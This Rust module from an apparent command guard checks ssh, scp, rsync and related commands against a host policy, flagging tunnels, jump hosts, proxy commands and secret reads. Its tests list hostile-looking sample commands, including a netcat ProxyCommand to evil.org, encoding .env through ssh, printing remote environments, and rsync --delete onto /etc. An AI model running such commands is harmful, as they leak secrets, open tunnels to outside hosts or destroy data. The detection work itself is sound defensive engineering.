//! Remote access: sessions, copies, tunnels, and which host a place is on.

use crate::contract::guard::Grantable;

use super::call::{Call, Options};
use super::text;
use super::walk::{Walk, carries};

/// Where a place is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Remote {
    Here,
    Ssh(String),
    Web(String),
    /// Reaching it runs a command.
    Runs(String),
}

/// Where a repository or a file is.
pub(super) fn remote(place: &str) -> Remote {
    if let Some(script) = place.strip_prefix("ext::") {
        return Remote::Runs(script.to_owned());
    }
    if let Some((scheme, rest)) = place.split_once("://") {
        let host = host(rest.split('/').next().unwrap_or_default());
        return match scheme {
            "ssh" | "git+ssh" | "ssh+git" | "sftp" | "scp" | "rsync" => Remote::Ssh(host),
            "http" | "https" | "git" | "ftp" | "ftps" => Remote::Web(host),
            _ => Remote::Here,
        };
    }
    match place.split_once(':') {
        Some((before, rest))
            if (before.len() > 1 || (before.len() == 1 && !rest.starts_with(['/', '\\'])))
                && !before.contains('/')
                && !before.starts_with(['.', '-', '~']) =>
        {
            Remote::Ssh(host(before))
        }
        _ => Remote::Here,
    }
}

/// The host of `user@host:port`, in lower case.
pub(super) fn host(authority: &str) -> String {
    let after = authority.rsplit('@').next().unwrap_or_default();
    if after.matches(':').count() > 1 && !after.starts_with('[') {
        // An address of many parts, without a port.
        return after.to_ascii_lowercase();
    }
    let name = match after.strip_prefix('[') {
        Some(six) => six.split(']').next().unwrap_or_default(),
        None => after.split(':').next().unwrap_or_default(),
    };
    name.to_ascii_lowercase()
}

/// Whether a host is one of a listed forge.
pub(super) fn listed(walk: &Walk<'_>, host: &str) -> bool {
    let forges = &walk.policy.forge_hosts;
    forges.iter().any(|forge| {
        let ends = host.strip_suffix(forge.as_str());
        ends.is_some_and(|before| before.is_empty() || before.ends_with('.'))
    })
}

/// Whether a host is this machine.
fn is_here(host: &str) -> bool {
    matches!(host, "localhost" | "127.0.0.1" | "::1")
}

/// A host is reached that may not be listed.
pub(super) fn reach(walk: &mut Walk<'_>, rule: &str, host: &str) {
    if host.is_empty() || !(listed(walk, host) || is_here(host)) {
        let wants = text::literal(host).then(|| Grantable::Host(host.to_owned()));
        walk.report(rule, host, wants);
    }
    walk.reads = false;
}

const SSH: [&str; 21] = [
    "-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
    "-Q", "-R", "-S", "-W", "-w",
];

/// A way to another host that a program is told to take, or what it shall do beside.
enum Way {
    Host(String),
    /// Settings that stand in a file.
    Configuration,
    Tunnel,
    /// A command is the connection.
    Command,
    /// A command that runs there.
    There(String),
}

/// Judges a program that reaches another host; `None` for every other one.
pub(super) fn judge(walk: &mut Walk<'_>, call: &Call) -> Option<String> {
    let out = match call.name.as_str() {
        "ssh" | "autossh" | "slogin" | "dbclient" => ssh(walk, call),
        "scp" | "rsync" | "rcp" => copy(walk, call),
        "sftp" | "mosh" | "sshfs" | "ssh-copy-id" | "rlogin" | "rsh" | "telnet" | "et" => {
            session(walk, call)
        }
        _ => return None,
    };
    // Of what is done there only secrets are followed.
    Some(if carries(&out) {
        out
    } else {
        text::marked(text::UNKNOWN, "output")
    })
}

fn ssh(walk: &mut Walk<'_>, call: &Call) -> String {
    let mut at = 0;
    let mut ways = Vec::new();
    let mut asks = flags(walk, &call.args, &mut at, &mut ways);
    // Who calls it may add the destination.
    let there = call.args.get(at).map(|destination| {
        let place = destination.strip_prefix("ssh://").unwrap_or(destination);
        host(place)
    });
    if there.is_some() {
        // Flags may stand behind it too; what stands behind them is the command there.
        at += 1;
        asks = flags(walk, &call.args, &mut at, &mut ways) || asks;
    }
    if asks {
        walk.reads &= !call.args.is_empty();
        return String::new();
    }
    walk.reads = false;
    let mut script = taken(walk, "ssh.session", &ways, there.as_deref());
    let Some(there) = there else {
        return String::new();
    };
    reach(walk, "ssh.session", &there);
    script.push_str(&call.args.get(at..).unwrap_or_default().join(" "));
    if listed(walk, &there) {
        return String::new();
    }
    if script.is_empty() {
        // The shell there takes what comes in.
        script.push_str("sh");
    }
    walk.apart(&script, &call.stdin)
}

/// Reads the flags from a place on, which it moves; answers whether only the client is asked.
fn flags(walk: &mut Walk<'_>, args: &[String], at: &mut usize, ways: &mut Vec<Way>) -> bool {
    let mut asks = false;
    while let Some(arg) = args.get(*at).filter(|arg| arg.starts_with('-')) {
        *at += 1;
        if arg == "--" {
            break;
        }
        let cluster = arg.get(1..).unwrap_or_default();
        asks = asks || cluster.starts_with(['V', 'Q', 'G']);
        let takes = |c: char| SSH.contains(&format!("-{c}").as_str());
        let Some(last) = cluster.find(takes) else {
            continue;
        };
        let (letter, joined) = cluster[last..].split_at(1);
        let value = if joined.is_empty() {
            *at += 1;
            args.get(*at - 1).map_or("", String::as_str)
        } else {
            joined
        };
        match letter {
            "L" | "R" | "D" | "W" | "w" => ways.push(Way::Tunnel),
            "J" => ways.push(Way::Host(value.to_owned())),
            "o" => option(walk, value, ways),
            "F" if !matches!(value, "none" | "/dev/null") => ways.push(Way::Configuration),
            _ => {}
        }
    }
    asks
}

/// Judges the ways to a host, each by itself: a grant of the host opens none of them but its
/// settings. Answers the commands that run there.
fn taken(walk: &mut Walk<'_>, rule: &str, ways: &[Way], there: Option<&str>) -> String {
    let mut scripts = String::new();
    for way in ways {
        match (way, there) {
            (Way::Host(name), _) => reach(walk, rule, &host(name)),
            (Way::Tunnel | Way::Command, _) => {
                walk.report("ssh.tunnel", there.unwrap_or_default(), None);
            }
            (Way::Configuration, Some(there)) => {
                walk.report("ssh.tunnel", there, Some(Grantable::Host(there.to_owned())));
            }
            (Way::Configuration, None) => {}
            (Way::There(script), _) => {
                scripts.push_str(script);
                scripts.push('\n');
            }
        }
    }
    scripts
}

/// `-o NAME=VALUE`: some run a command here or there, or reach through another host.
fn option(walk: &mut Walk<'_>, option: &str, ways: &mut Vec<Way>) {
    let (name, value) = option.split_once(['=', ' ']).unwrap_or((option, ""));
    let value = value.trim_matches([' ', '\t', '=', '"']);
    match name.trim().to_ascii_lowercase().as_str() {
        "proxycommand" if value != "none" => {
            walk.script(value, "");
            ways.push(Way::Command);
        }
        "localcommand" => walk.shown(value),
        "knownhostscommand" | "ssh_command" => {
            walk.script(value, "");
        }
        "remotecommand" => ways.push(Way::There(value.to_owned())),
        "hostname" | "proxyjump" => ways.push(Way::Host(value.to_owned())),
        "localforward" | "remoteforward" | "dynamicforward" | "stdioforward" => {
            ways.push(Way::Tunnel);
        }
        "tunnel" if value != "no" => ways.push(Way::Tunnel),
        _ => {}
    }
}

const SCP: [&str; 10] = ["-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-S", "-X"];

const RSYNC: [&str; 13] = [
    "-e",
    "--filter",
    "-f",
    "-B",
    "-M",
    "-T",
    "--rsh",
    "--rsync-path",
    "--exclude",
    "--include",
    "--files-from",
    "--exclude-from",
    "--include-from",
];

fn copy(walk: &mut Walk<'_>, call: &Call) -> String {
    walk.reads = false;
    let syncs = call.name == "rsync";
    let seen = call.options(if syncs { &RSYNC } else { &SCP });
    if seen.flag("", "version", 3) || call.has("--help") {
        return String::new();
    }
    for (at, word) in seen.words.iter().enumerate() {
        if let Remote::Ssh(host) | Remote::Web(host) = remote(word) {
            reach(walk, "ssh.copy", &host);
            let last = at + 1 == seen.words.len();
            let path = word.rsplit(':').next().unwrap_or_default();
            if last && is_here(&host) && !path.is_empty() {
                walk.replacing(path);
            }
        } else if syncs && seen.flag("", "delete", 3) && at + 1 == seen.words.len() {
            walk.deleting(word, true);
        } else if walk.places.is_secret(word) {
            let read = walk.read_secret("secret.read-file", word);
            drop(read);
        }
        if at + 1 == seen.words.len() && remote(word) == Remote::Here {
            walk.replacing(word);
        }
    }
    if syncs {
        let mut scripts = seen.values("e", "rsh");
        scripts.extend(seen.values("", "rsync-path"));
        scripts.extend(call.env("RSYNC_RSH"));
        for script in scripts {
            walk.script(script, "");
        }
    } else {
        ways(walk, &seen, None);
    }
    String::new()
}

/// The ways to the host that `scp` and its like are told to take, and the programs that they are
/// told to call for that.
fn ways(walk: &mut Walk<'_>, seen: &Options<'_>, there: Option<&str>) {
    for script in seen.values("S", "ssh") {
        walk.script(script, "");
    }
    let jumps = seen.values("J", "").into_iter();
    let mut ways: Vec<Way> = jumps.map(|jump| Way::Host(jump.to_owned())).collect();
    for value in seen.values("o", "") {
        option(walk, value, &mut ways);
    }
    taken(walk, "ssh.copy", &ways, there);
}

fn session(walk: &mut Walk<'_>, call: &Call) -> String {
    walk.reads = false;
    let seen = call.options(&[
        "-i", "-p", "-P", "-o", "-F", "-b", "-B", "-c", "-D", "-J", "-l", "-R", "-S", "-s", "--ssh",
    ]);
    if seen.words.is_empty() || seen.flag("V", "version", 3) || call.has("--help") {
        return String::new();
    }
    let place = seen.words[0];
    let there = match remote(place) {
        Remote::Ssh(host) | Remote::Web(host) => host,
        _ => host(place),
    };
    reach(walk, "ssh.session", &there);
    ways(walk, &seen, Some(&there));
    if matches!(call.name.as_str(), "mosh" | "rsh") {
        return walk.apart(&seen.words[1..].join(" "), &call.stdin);
    }
    String::new()
}

#[cfg(test)]
mod tests {
    use super::super::judge;
    use crate::contract::guard::{Grantable, Policy};

    fn policy() -> Policy {
        Policy {
            workspace: "/w/app".to_owned(),
            cwd: "/w/app".to_owned(),
            home: "/home/d".to_owned(),
            ..Policy::default()
        }
    }

    #[test]
    fn what_is_asked_of_the_client_alone_only_reads() {
        for (line, reads) in [
            ("ssh -V", true),
            ("ssh -Q cipher", true),
            ("touch x; ssh -V", false),
        ] {
            let said = judge("Bash", line, &policy());
            assert_eq!(said.only_reads, reads, "{line}: {said:?}");
        }
    }

    #[test]
    fn a_grant_of_a_host_opens_the_host_and_nothing_beside_it() {
        let host = Grantable::Host("build".to_owned());
        let granted = Policy {
            grants: vec![host.clone()],
            ..policy()
        };
        for (line, want) in [
            ("ssh build", None),
            ("ssh -p 22 build uptime", None),
            ("ssh -F cfg build", None),
            ("ssh build cat README.md", None),
            ("ssh build env | wc -l", None),
            ("rsync -e 'ssh -p 22' a build:b", None),
            ("scp -o Port=22 a build:b", None),
            ("ssh -L 80:a:80 build", Some("ssh.tunnel")),
            ("ssh build -D 1080", Some("ssh.tunnel")),
            (
                "ssh -o ProxyCommand='nc evil.org 22' build",
                Some("ssh.tunnel"),
            ),
            ("ssh -J evil.org build", Some("ssh.session")),
            ("ssh -o LocalCommand='git push -f' build", Some("git.force")),
            ("rsync -e 'ssh -R 1:a:1' a build:b", Some("ssh.tunnel")),
            ("rsync -e 'ssh evil.org' a build:b", Some("ssh.session")),
            ("scp -o LocalForward=1:a:1 a build:b", Some("ssh.tunnel")),
            ("ssh build cat .env", Some("secret.read-file")),
            ("ssh build env", Some("secret.print-env")),
            ("ssh build printenv", Some("secret.print-env")),
            ("ssh build 'cat .env | base64'", Some("secret.read-file")),
        ] {
            let said = judge("Bash", line, &granted);
            assert_eq!(said.rule.as_deref(), want, "{line}");
        }
        for (line, wants) in [
            ("ssh -F cfg build", Some(host)),
            ("ssh -L 80:a:80 localhost", None),
        ] {
            let said = judge("Bash", line, &policy()).wants;
            let said = said.filter(|wants| matches!(wants, Grantable::Host(_)));
            assert_eq!(said, wants, "{line}");
        }
    }

    #[test]
    fn a_mirrored_copy_deletes_and_every_other_one_writes() {
        for (line, rule) in [
            ("rsync -a --delete a/ /etc/", "disk.rm-root"),
            ("scp --delete a /etc/", "disk.system"),
            ("rsync -a --delete a/ ~/", "disk.rm-root"),
        ] {
            let said = judge("Bash", line, &policy());
            assert_eq!(said.rule.as_deref(), Some(rule), "{line}");
        }
    }
}
